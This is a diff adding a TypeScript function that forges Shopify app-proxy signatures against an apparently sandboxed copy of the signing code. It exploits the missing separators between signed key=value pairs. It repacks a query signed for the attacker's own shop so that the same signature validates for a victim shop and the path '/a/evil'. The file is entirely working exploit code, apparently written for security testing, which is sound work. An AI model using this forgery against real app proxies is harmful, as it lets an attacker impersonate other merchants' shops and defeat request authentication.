@@ -1,0 +1,26 @@
+import { sign } from "../../sandbox/shopify/storefront/app-proxy.ts";
+
+/**
+ * What somebody makes of a query that Shopify signed for a shop of theirs: nothing stands between the signed pairs, so the same
+ * signature fits a query of the victim's, once with a name of the attacker's own and once with Shopify's alone.
+ */
+export function recutProxyQueries(victim: string, secret: string, seconds: number): URLSearchParams[] {
+  const time = String(seconds);
+  const real = { logged_in_customer_id: "", path_prefix: "/apps/real", shop: "mine.myshopify.com", timestamp: time };
+  const realText = `path_prefix=${real.path_prefix}shop=${real.shop}timestamp=${time}`;
+  const wanted = { path_prefix: "/a/evil", shop: victim, timestamp: time };
+  const wantedText = `path_prefix=/a/evilshop=${victim}timestamp=${time}`;
+  return [
+    {
+      asked: { ...real, m: `${wantedText}z=` },
+      forged: { ...wanted, logged_in_customer_id: "m=", z: realText },
+    },
+    {
+      asked: { ...real, u: wantedText },
+      forged: { ...wanted, logged_in_customer_id: `${realText}u=` },
+    },
+  ].map(({ asked, forged }) => {
+    const signature = sign(new URLSearchParams(asked), secret);
+    return new URLSearchParams({ ...forged, signature });
+  });
+}
